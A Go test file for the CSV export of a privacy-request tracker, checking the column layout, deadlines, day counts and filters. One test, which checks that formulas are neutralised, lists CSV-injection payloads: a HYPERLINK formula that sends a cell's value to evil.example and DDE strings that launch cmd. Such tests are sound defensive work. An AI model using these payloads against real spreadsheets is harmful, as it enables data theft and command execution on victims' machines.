package store_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5/pgxpool"

	"rightsdesk/internal/request"
	"rightsdesk/internal/store"
	"rightsdesk/internal/testkit"
)

// plus5 is Kazakhstan's single time zone since 2024, fixed so that the
// tests do not depend on the machine's time-zone database.
var plus5 = time.FixedZone("+05", 5*60*60)

// export runs ExportCSV and parses what it wrote, checking the byte-order
// mark and the header on the way.
func export(t *testing.T, s *store.Store, f store.QueueFilter, loc *time.Location) []map[string]string {
	t.Helper()
	var buf bytes.Buffer
	n, err := s.ExportCSV(context.Background(), f, loc, &buf)
	if err != nil {
		t.Fatalf("export: %v", err)
	}
	body, ok := bytes.CutPrefix(buf.Bytes(), []byte("\xEF\xBB\xBF"))
	if !ok {
		t.Fatalf("no UTF-8 byte-order mark: % x", buf.Bytes()[:min(8, buf.Len())])
	}
	if !bytes.Contains(body, []byte("\r\n")) {
		t.Errorf("lines do not end in CRLF")
	}
	records, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("parse the export: %v", err)
	}
	if !slices.Equal(records[0], store.ExportColumns) {
		t.Fatalf("header = %v", records[0])
	}
	if n != len(records)-1 {
		t.Errorf("ExportCSV says %d rows, wrote %d", n, len(records)-1)
	}
	var out []map[string]string
	for _, rec := range records[1:] {
		row := map[string]string{}
		for i, col := range store.ExportColumns {
			row[col] = rec[i]
		}
		out = append(out, row)
	}
	return out
}

func addRequest(t *testing.T, pool *pgxpool.Pool, r testkit.Req) (int64, string) {
	t.Helper()
	id, err := testkit.AddRequest(context.Background(), pool, r)
	if err != nil {
		t.Fatal(err)
	}
	var ref string
	if err := pool.QueryRow(context.Background(), `SELECT reference FROM requests WHERE id = $1`, id).Scan(&ref); err != nil {
		t.Fatal(err)
	}
	return id, ref
}

func TestExportHasEveryFieldARecordKeeperNeeds(t *testing.T) {
	ctx := context.Background()
	pool := testkit.DB(t)
	s := store.New(pool, nil, testkit.Keys())
	agent, err := testkit.AddStaff(ctx, pool, "Әсел Нұрланқызы", "asel@example.kz")
	if err != nil {
		t.Fatal(err)
	}
	received := time.Date(2026, 1, 10, 9, 15, 0, 0, plus5)
	_, completed := addRequest(t, pool, testkit.Req{
		Type: request.ConsentWithdrawal, Status: request.Completed, ReceivedAt: received,
		ConfirmedAt: received.Add(20 * time.Minute), DueAt: time.Date(2026, 2, 2, 9, 15, 0, 0, plus5),
		ClosedAt: time.Date(2026, 1, 20, 16, 0, 0, 0, plus5), AssigneeID: agent,
		Rule: "kz.consent_withdrawal", LegalRef: "Law of RK No. 94-V, art. 8(7)",
	})
	extendedID, extended := addRequest(t, pool, testkit.Req{
		Type: request.Access, Status: request.Rejected, ReceivedAt: received.Add(time.Hour),
		ConfirmedAt: received.Add(2 * time.Hour), DueAt: time.Date(2026, 2, 9, 10, 15, 0, 0, plus5),
		ClosedAt: time.Date(2026, 3, 1, 12, 0, 0, 0, plus5), AssigneeID: agent, Rule: "gdpr.one_month",
	})
	// An extension moves due_at and keeps the first date (migration 00006).
	if _, err := pool.Exec(ctx, `UPDATE requests SET original_due_at = due_at, due_at = due_at + interval '30 days',
		extensions = 1 WHERE id = $1`, extendedID); err != nil {
		t.Fatal(err)
	}
	_, open := addRequest(t, pool, testkit.Req{Type: request.Erasure, Status: request.Unverified,
		ReceivedAt: received.Add(2 * time.Hour)})

	rows := export(t, s, store.QueueFilter{Tab: store.TabAll}, plus5)
	want := []map[string]string{{
		"reference": completed, "type": "consent_withdrawal", "status": "completed",
		"received_at": "2026-01-10 09:15:00", "confirmed_at": "2026-01-10 09:35:00", "due_at": "2026-02-02 09:15:00",
		"extended_due_at": "", "closed_at": "2026-01-20 16:00:00", "outcome": "completed", "assignee": "Әсел Нұрланқызы",
		"rule": "kz.consent_withdrawal", "legal_ref": "Law of RK No. 94-V, art. 8(7)", "days_taken": "10", "on_time": "true",
	}, {
		"reference": extended, "type": "access", "status": "rejected",
		"received_at": "2026-01-10 10:15:00", "confirmed_at": "2026-01-10 11:15:00", "due_at": "2026-02-09 10:15:00",
		"extended_due_at": "2026-03-11 10:15:00", "closed_at": "2026-03-01 12:00:00", "outcome": "rejected",
		"assignee": "Әсел Нұрланқызы", "rule": "gdpr.one_month", "legal_ref": "", "days_taken": "50",
		// Late against the first date, on time against the extended one.
		"on_time": "true",
	}, {
		"reference": open, "type": "erasure", "status": "unverified",
		"received_at": "2026-01-10 11:15:00", "confirmed_at": "", "due_at": "2026-02-09 11:15:00",
		"extended_due_at": "", "closed_at": "", "outcome": "", "assignee": "", "rule": "default.calendar_30d",
		"legal_ref": "", "days_taken": "", "on_time": "",
	}}
	if len(rows) != len(want) {
		t.Fatalf("%d rows, want %d", len(rows), len(want))
	}
	for i := range want {
		for _, col := range store.ExportColumns {
			if rows[i][col] != want[i][col] {
				t.Errorf("row %d, %s = %q, want %q", i+1, col, rows[i][col], want[i][col])
			}
		}
	}
}

func TestExportOutcomeAndOnTime(t *testing.T) {
	pool := testkit.DB(t)
	s := store.New(pool, nil, testkit.Keys())
	received := time.Date(2026, 1, 5, 12, 0, 0, 0, plus5)
	due := received.AddDate(0, 0, 30)
	tests := []struct {
		status          request.Status
		closed          time.Time
		outcome, onTime string
	}{
		{request.Completed, due, "completed", "true"}, // on the deadline itself is on time
		{request.Completed, due.Add(time.Second), "completed", "false"},
		{request.Rejected, due.AddDate(0, 0, -1), "rejected", "true"},
		// Withdrawn and expired requests were owed no answer: neither on time nor late.
		{request.Withdrawn, due.AddDate(0, 0, 1), "withdrawn", ""},
		{request.Expired, received.AddDate(0, 0, 7), "expired", ""},
		{request.InProgress, time.Time{}, "", ""},
		{request.AwaitingRequester, time.Time{}, "", ""},
	}
	for _, tt := range tests {
		addRequest(t, pool, testkit.Req{Status: tt.status, ReceivedAt: received, DueAt: due, ClosedAt: tt.closed})
	}
	rows := export(t, s, store.QueueFilter{Tab: store.TabAll}, plus5)
	for i, tt := range tests {
		if rows[i]["status"] != string(tt.status) || rows[i]["outcome"] != tt.outcome || rows[i]["on_time"] != tt.onTime {
			t.Errorf("%s closed %v: status %q outcome %q on_time %q, want outcome %q on_time %q", tt.status, tt.closed,
				rows[i]["status"], rows[i]["outcome"], rows[i]["on_time"], tt.outcome, tt.onTime)
		}
	}
}

// TestExportDaysTakenCountsCalendarDaysInTheOperatorsZone: a request received
// late in the evening and closed after midnight took one day where the
// operator is, even though fewer than 24 hours passed (and in UTC both
// moments fall on the same date).
func TestExportDaysTakenCountsCalendarDaysInTheOperatorsZone(t *testing.T) {
	pool := testkit.DB(t)
	s := store.New(pool, nil, testkit.Keys())
	tests := []struct {
		received, closed time.Time
		loc              *time.Location
		want             string
	}{
		{time.Date(2026, 1, 10, 23, 30, 0, 0, plus5), time.Date(2026, 1, 11, 0, 10, 0, 0, plus5), plus5, "1"},
		{time.Date(2026, 1, 10, 23, 30, 0, 0, plus5), time.Date(2026, 1, 11, 0, 10, 0, 0, plus5), time.UTC, "0"},
		{time.Date(2026, 1, 10, 0, 5, 0, 0, plus5), time.Date(2026, 1, 10, 23, 55, 0, 0, plus5), plus5, "0"},
		{time.Date(2026, 1, 10, 0, 5, 0, 0, plus5), time.Date(2026, 1, 10, 23, 55, 0, 0, plus5), time.UTC, "1"},
		{time.Date(2026, 1, 31, 12, 0, 0, 0, plus5), time.Date(2026, 3, 2, 11, 0, 0, 0, plus5), plus5, "30"},
	}
	for _, tt := range tests {
		addRequest(t, pool, testkit.Req{Status: request.Completed, ReceivedAt: tt.received, ClosedAt: tt.closed})
	}
	for _, loc := range []*time.Location{plus5, time.UTC} {
		rows := export(t, s, store.QueueFilter{Tab: store.TabAll}, loc)
		for i, tt := range tests {
			if tt.loc != loc {
				continue
			}
			if got := rows[i]["days_taken"]; got != tt.want {
				t.Errorf("received %v, closed %v, in %v: days_taken %s, want %s", tt.received, tt.closed, loc, got, tt.want)
			}
		}
	}
}

// TestExportDefusesFormulas: a cell a spreadsheet would run as a formula
// (OWASP "CSV injection") is written as text, behind a single quote; other
// cells are written as they are, quoted as CSV needs.
func TestExportDefusesFormulas(t *testing.T) {
	ctx := context.Background()
	pool := testkit.DB(t)
	s := store.New(pool, nil, testkit.Keys())
	tests := []struct {
		name, want string
	}{
		{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, `'=HYPERLINK("http://evil.example/?"&A1,"Click")`},
		{"+7 701 000 0000", "'+7 701 000 0000"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		// encoding/csv in CRLF mode drops a lone carriage return; the quote
		// is still there.
		{"\r=1+1", "'=1+1"},
		{"Иван =Петров", "Иван =Петров"},
		{`Smith, "Jr."`, `Smith, "Jr."`},
		{"Two\nlines", "Two\nlines"},
	}
	received := time.Date(2026, 1, 10, 9, 0, 0, 0, plus5)
	for i, tt := range tests {
		staff, err := testkit.AddStaff(ctx, pool, tt.name, "agent"+string(rune('a'+i))+"@example.kz")
		if err != nil {
			t.Fatal(err)
		}
		addRequest(t, pool, testkit.Req{ReceivedAt: received, AssigneeID: staff, Rule: tt.name, LegalRef: tt.name})
	}
	rows := export(t, s, store.QueueFilter{Tab: store.TabAll}, plus5)
	for i, tt := range tests {
		for _, col := range []string{"assignee", "rule", "legal_ref"} {
			if got := rows[i][col]; got != tt.want {
				t.Errorf("%s %q written as %q, want %q", col, tt.name, got, tt.want)
			}
		}
	}
}

func TestExportFollowsTheFilter(t *testing.T) {
	pool := testkit.DB(t)
	s := store.New(pool, nil, testkit.Keys())
	now := time.Date(2026, 3, 2, 10, 0, 0, 0, plus5)
	if _, err := testkit.SeedRequests(context.Background(), pool, 2000, testkit.SeedOptions{Now: now, Seed: 3}); err != nil {
		t.Fatal(err)
	}
	for _, f := range []store.QueueFilter{
		{Tab: store.TabOverdue, Now: now},
		{Tab: store.TabClosed, Types: []request.Type{request.Erasure}},
		{Tab: store.TabAll, Search: "ұлан"},
	} {
		counts, err := s.QueueCounts(context.Background(), store.QueueFilter{Now: now, Types: f.Types, Search: f.Search})
		if err != nil {
			t.Fatal(err)
		}
		rows := export(t, s, f, plus5)
		if len(rows) == 0 || len(rows) != counts[f.Tab] {
			t.Errorf("tab %s: exported %d rows, the tab counts %d", f.Tab, len(rows), counts[f.Tab])
		}
		for _, r := range rows {
			if f.Tab == store.TabOverdue && (r["outcome"] != "" || r["due_at"] >= now.Format("2006-01-02 15:04:05")) {
				t.Errorf("not overdue: %v", r)
			}
			if f.Tab == store.TabClosed && (r["outcome"] == "" || r["type"] != "erasure") {
				t.Errorf("not a closed erasure: %v", r)
			}
		}
	}
	if _, err := s.ExportCSV(context.Background(), store.QueueFilter{Tab: store.TabMine}, plus5, &strings.Builder{}); err == nil {
		t.Error("an export of an impossible filter succeeded")
	}
}
